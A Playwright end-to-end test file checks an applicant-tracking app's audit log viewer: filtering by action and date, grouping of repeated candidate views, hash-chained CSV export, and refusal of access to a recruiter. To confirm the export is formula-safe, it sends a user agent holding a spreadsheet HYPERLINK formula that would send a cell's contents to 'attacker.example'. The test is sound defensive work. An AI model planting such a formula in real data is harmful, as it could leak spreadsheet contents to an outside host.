// The audit viewer (issue 11, item 4): a security analyst filters the log by action and date, sees repeated views
// grouped (each still listed), exports the filtered events as formula-safe CSV, and a recruiter is refused /audit
// and its export.
import { readFile } from "node:fs/promises";
import Papa from "papaparse";
import { hashAuditEvent } from "@/lib/audit-chain";
import { expect, test } from "./fixtures";

// Every request of this file carries a user agent that a spreadsheet would run as a formula: the sign-in audits it.
const FORMULA_AGENT = '=HYPERLINK("http://attacker.example/?leak="&A1,"click") Chrome/153';
test.use({ userAgent: FORMULA_AGENT });

const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);

test("a security analyst filters by action and date, sees repeated views grouped, and exports formula-safe CSV", async ({ page, login }) => {
  await login("security");

  // Open one candidate three times in a row: three recorded views.
  await page.goto("/candidates");
  const href = await page.locator('table a[href^="/candidates/"]').first().getAttribute("href");
  expect(href).toMatch(/^\/candidates\/[0-9a-f-]{36}$/);
  for (let i = 0; i < 3; i++) await page.goto(href!);

  await page.goto("/audit");
  await expect(page.getByTestId("audit-chain-head")).toContainText(/Chain head: event \d+, hash [0-9a-f]{64}/);
  await page.locator("select[name=action]").selectOption({ label: "Candidate viewed" });
  await page.locator("input[name=from]").fill(day(-1));
  await page.locator("input[name=to]").fill(day(1));
  await page.getByRole("button", { name: "Apply filters" }).click();
  await expect(page).toHaveURL(/action=candidate.viewed/);

  // The three views are one line naming the count, and open to the three events, each with its chain hash.
  const group = page.getByTestId("audit-view-group").filter({ has: page.locator(`a[href="${href}"]`) }).first();
  await expect(group).toContainText(/Candidate viewed \(\d+ times between .+ and .+\)/);
  const count = Number((await group.textContent())!.match(/\((\d+) times/)![1]);
  expect(count).toBeGreaterThanOrEqual(3);
  await group.getByText(/Show each of the \d+ views/).click();
  const grouped = group.getByTestId("audit-grouped-event");
  await expect(grouped).toHaveCount(count);
  await expect(grouped.first().locator("code")).toHaveText(/^[0-9a-f]{12}$/);
  // Only views are listed under this filter; no other action slipped in.
  await expect(page.getByTestId("audit-row").filter({ hasNotText: "Candidate viewed" })).toHaveCount(0);

  // Export the sign-ins of the same dates: the analyst's own sign-in carries the formula-like user agent.
  await page.locator("select[name=action]").selectOption({ label: "Signed in" });
  await page.getByRole("button", { name: "Apply filters" }).click();
  await expect(page).toHaveURL(/action=auth.signed_in/);
  const exportLink = page.getByRole("link", { name: "Export CSV (these filters)" });
  await expect(exportLink).toHaveAttribute("href", `/api/exports/audit.csv?action=auth.signed_in&from=${day(-1)}&to=${day(1)}`);
  const [download] = await Promise.all([page.waitForEvent("download"), exportLink.click()]);
  const text = await readFile(await download.path(), "utf8");
  expect(text.startsWith("\uFEFF")).toBe(true);
  const [header, ...rows] = Papa.parse<string[]>(text.slice(1).trimEnd(), { newline: "\r\n" }).data;
  expect(header).toEqual(["id", "at", "action", "actor_id", "actor_email", "actor_name", "subject_type", "subject_id", "before", "after", "ip", "user_agent", "credential", "prev_hash", "hash"]);
  expect(rows.length).toBeGreaterThan(0);
  expect(rows.every((r) => r[2] === "auth.signed_in")).toBe(true);
  const mine = rows.filter((r) => r[4] === "security@example.com");
  expect(mine.length).toBeGreaterThan(0);
  // The cell is kept, but prefixed with ' so a spreadsheet shows it as text instead of running it.
  expect(mine[0][11]).toBe(`'${FORMULA_AGENT}`);
  expect(rows.flat().some((cell) => /^[=+@\t\r]/.test(cell) || /^-\D/.test(cell))).toBe(false);
  expect(mine[0][14]).toMatch(/^[0-9a-f]{64}$/);
  // The row holds exactly what the chain hashes: re-hashed from the file (the escaping ' taken off), it matches.
  const [id, at, , actorId, , , subjectType, subjectId, before, after, ip, userAgent, credential, prevHash, hash] = mine[0];
  const orNull = (v: string) => (v === "" ? null : v);
  const content = { id, at, actorId: orNull(actorId), action: "auth.signed_in", subjectType, subjectId: orNull(subjectId), before: orNull(before), after: orNull(after), ip: orNull(ip), userAgent: userAgent.replace(/^'/, ""), credential: orNull(credential) };
  expect(hashAuditEvent(content, prevHash)).toBe(hash);

  // The export itself is in the log.
  await page.goto(`/audit?category=audit&from=${day(-1)}&to=${day(1)}`);
  await expect(page.getByTestId("audit-row").filter({ hasText: "Audit log exported" }).first()).toContainText("security@example.com");
});

test("a recruiter is refused the audit log and its export", async ({ page, login }) => {
  await login("recruiter");
  const res = await page.goto("/audit");
  expect(res?.status()).toBe(403);
  await expect(page.getByTestId("audit-row")).toHaveCount(0);
  const file = await page.request.get("/api/exports/audit.csv");
  expect(file.status()).toBe(403);
  expect(await file.text()).not.toContain("auth.signed_in");
});
